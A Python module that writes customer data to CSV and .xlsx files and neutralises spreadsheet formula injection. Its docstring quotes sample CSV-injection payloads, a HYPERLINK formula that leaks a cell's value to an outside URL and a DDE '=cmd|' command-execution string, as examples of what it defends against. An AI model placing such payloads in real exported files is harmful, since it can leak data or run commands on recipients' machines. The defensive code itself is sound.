"""The one place that writes files for people: CSV and .xlsx that a spreadsheet opens safely.

Customer data is written as data, never as something a spreadsheet runs. Per OWASP's
CSV-injection guidance, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return would be read as a formula (``=HYPERLINK("http://…"&A1,"click")``,
``=cmd|' /C calc'!A0``); so in CSV it is written with a leading ``'`` and in .xlsx as a string
cell. Numbers, dates, booleans and empty cells keep their type; only text is touched, and only
in the written file: the store keeps what the customer gave.

.xlsx cannot hold most control characters (openpyxl refuses ``\\x01``), nor more than 32,767
characters in a cell; those are dropped from the written cell so that an export never fails on
them (and a carriage return is written as a line feed). CSV keeps them.

>>> neutralise('=HYPERLINK("http://x","click")')
'\\'=HYPERLINK("http://x","click")'
>>> neutralise("a=b"), neutralise(-1)
('a=b', -1)

Writing a whole table (to a temporary name, renamed when complete)::

    write_table(path, ["id", "name"], rows, fmt="xlsx", sheet="顧客")

or streaming rows, e.g. rejects while an import runs::

    with open_sheet(path, "csv", headers=["row", "value"]) as sheet:
        sheet.writerow([2, "=1+1"])
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import os
import re
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from types import TracebackType
from typing import Any

from kizuna._errors import KizunaError

__all__ = [
    "SHEET_FORMATS", "CsvSheet", "SheetWriter", "XlsxSheet", "neutralise", "open_csv", "open_sheet",
    "sheet_title", "write_table", "xlsx_text",
]

SHEET_FORMATS = ("csv", "xlsx")

# A formula starts with one of = + - @ TAB CR, perhaps after other control characters that a
# spreadsheet may skip; such text is written as text.
_FORMULA_START = re.compile(r"[\x00-\x08\x0a-\x0c\x0e-\x1f]*[=+\-@\t\r]")
# What openpyxl refuses in a cell (openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE), kept here so that
# importing this module does not import openpyxl.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_MAX_TEXT = 32_767  # Excel's limit on the characters of one cell
# Values a spreadsheet cell holds as they are; anything else is written as its text.
_TYPED = (int, float, decimal.Decimal, dt.date, dt.time, dt.timedelta)


def neutralise(value: object) -> object:
    """The value for a CSV cell: text a spreadsheet would run gets a leading ``'``; others unchanged.

    >>> neutralise("+81 3-1234-5678"), neutralise("\\t=1+1"), neutralise(""), neutralise(None)
    ("'+81 3-1234-5678", "'\\t=1+1", '', None)
    """
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def xlsx_text(value: str) -> str:
    """Text as an .xlsx cell can hold it: without control characters, at most 32,767 characters.

    A carriage return becomes a line feed, as any reader of the file's XML would make it.
    """
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return _XLSX_ILLEGAL.sub("", value)[:XLSX_MAX_TEXT]


def sheet_title(name: str, default: str = "Sheet1") -> str:
    """A worksheet name Excel accepts: no ``[]:*?/\\``, at most 31 characters, not empty."""
    title = re.sub(r"[\[\]:*?/\\]", "_", xlsx_text(name)).strip("'")[:31]
    return title or default


class SheetWriter:
    """A file being written row by row: ``writerow`` for each row, then ``close`` (or ``with``)."""

    path: Path  # where the file is written
    rows: int  # data rows written so far, headers not counted

    def writerow(self, row: Sequence[object]) -> None:
        raise NotImplementedError

    def writerows(self, rows: Iterable[Sequence[object]]) -> None:
        for row in rows:
            self.writerow(row)

    def close(self) -> None:
        raise NotImplementedError

    def __enter__(self) -> SheetWriter:
        return self

    def __exit__(self, kind: type[BaseException] | None, exc: BaseException | None,
                 tb: TracebackType | None) -> None:
        self.close()


class CsvSheet(SheetWriter):
    """CSV in UTF-8 with a BOM, so that Excel in Japan opens it without garbling names."""

    def __init__(self, path: Path | str, headers: Sequence[str] | None = None, *,
                 shown_as: Path | str | None = None) -> None:
        self.path = Path(path)
        self.rows = 0
        self._shown_as = Path(shown_as or path)
        self._handle = _open(self.path, self._shown_as, lambda p: p.open("w", encoding="utf-8-sig", newline=""))
        self._writer = csv.writer(self._handle)
        if headers is not None:
            self._writer.writerow([neutralise(h) for h in headers])

    def writerow(self, row: Sequence[object]) -> None:
        self._writer.writerow([neutralise(_plain(v)) for v in row])
        self.rows += 1

    def close(self) -> None:
        self._handle.close()


class XlsxSheet(SheetWriter):
    """One worksheet of an .xlsx, written row by row (openpyxl's write-only mode)."""

    def __init__(self, path: Path | str, headers: Sequence[str] | None = None, *, sheet: str = "Sheet1",
                 shown_as: Path | str | None = None) -> None:
        import openpyxl  # only the commands that write .xlsx pay for it
        from openpyxl.cell import WriteOnlyCell

        self.path = Path(path)
        self.rows = 0
        self._shown_as = Path(shown_as or path)
        # opened now, like a CSV: a path that cannot be written fails before any row is made
        self._handle = _open(self.path, self._shown_as, lambda p: p.open("wb"))
        self._cell = WriteOnlyCell
        self._book = openpyxl.Workbook(write_only=True)
        self._sheet = self._book.create_sheet(sheet_title(sheet))
        self._closed = False
        if headers is not None:
            self._sheet.append([self._value(h) for h in headers])

    def _value(self, value: object) -> object:
        value = _plain(value)
        if isinstance(value, dt.datetime) and value.tzinfo is not None:
            value = value.isoformat(sep=" ")  # .xlsx has no time zones; openpyxl refuses them
        if not isinstance(value, str):
            return value
        value = xlsx_text(value)
        if not _FORMULA_START.match(value):
            return value
        # openpyxl makes text starting with "=" a formula cell: force a string cell instead
        cell = self._cell(self._sheet, value=value)
        cell.data_type = "s"
        return cell

    def writerow(self, row: Sequence[object]) -> None:
        self._sheet.append([self._value(v) for v in row])
        self.rows += 1

    def close(self) -> None:
        if not self._closed:
            self._closed = True
            with self._handle:
                _open(self.path, self._shown_as, lambda _: self._book.save(self._handle))


def open_sheet(path: Path | str, fmt: str = "csv", *, headers: Sequence[str] | None = None,
               sheet: str = "Sheet1", shown_as: Path | str | None = None) -> CsvSheet | XlsxSheet:
    """A writer for `path` in `fmt` ("csv" or "xlsx"): call ``writerow`` per row, then ``close``.

    The file is written at `path` itself; to publish a file only when it is complete, write to
    a temporary name and rename it (as `write_table` does), passing the final name as
    `shown_as` for error messages. A path that cannot be written raises `KizunaError`.
    """
    if fmt == "csv":
        return CsvSheet(path, headers, shown_as=shown_as)
    if fmt == "xlsx":
        return XlsxSheet(path, headers, sheet=sheet, shown_as=shown_as)
    raise KizunaError(f"unknown file format {fmt!r}; choose {' or '.join(SHEET_FORMATS)}.")


def open_csv(path: Path | str, headers: Sequence[str] | None = None, *,
             shown_as: Path | str | None = None) -> CsvSheet:
    """A streaming CSV writer (UTF-8 with BOM) that neutralises formulas; see `open_sheet`."""
    return CsvSheet(path, headers, shown_as=shown_as)


def write_table(path: Path | str, headers: Sequence[str], rows: Iterable[Sequence[object]], *,
                fmt: str = "csv", sheet: str = "Sheet1") -> int:
    """Write a whole table to `path` as csv or xlsx; returns the number of data rows.

    The file appears under its name only once complete: a failure leaves any earlier file there
    as it was, and no partial one.
    """
    path = Path(path)
    temporary = path.with_name(f".{path.name}.{os.getpid()}.tmp")
    try:
        with open_sheet(temporary, fmt, headers=headers, sheet=sheet, shown_as=path) as writer:
            writer.writerows(rows)
        _open(path, path, lambda p: os.replace(temporary, p))
    finally:
        temporary.unlink(missing_ok=True)
    return writer.rows


def _plain(value: Any) -> Any:
    if value is None or isinstance(value, (str, bool, *_TYPED)):
        return value
    return str(value)


def _open(path: Path, shown_as: Path, action: Callable[[Path], Any]) -> Any:
    # an unwritable or missing folder, or a name that is a folder: one line, not a traceback
    try:
        return action(path)
    except OSError as exc:
        raise KizunaError(f"cannot write {shown_as}: {exc.strerror or exc}. Choose another file name.") from None
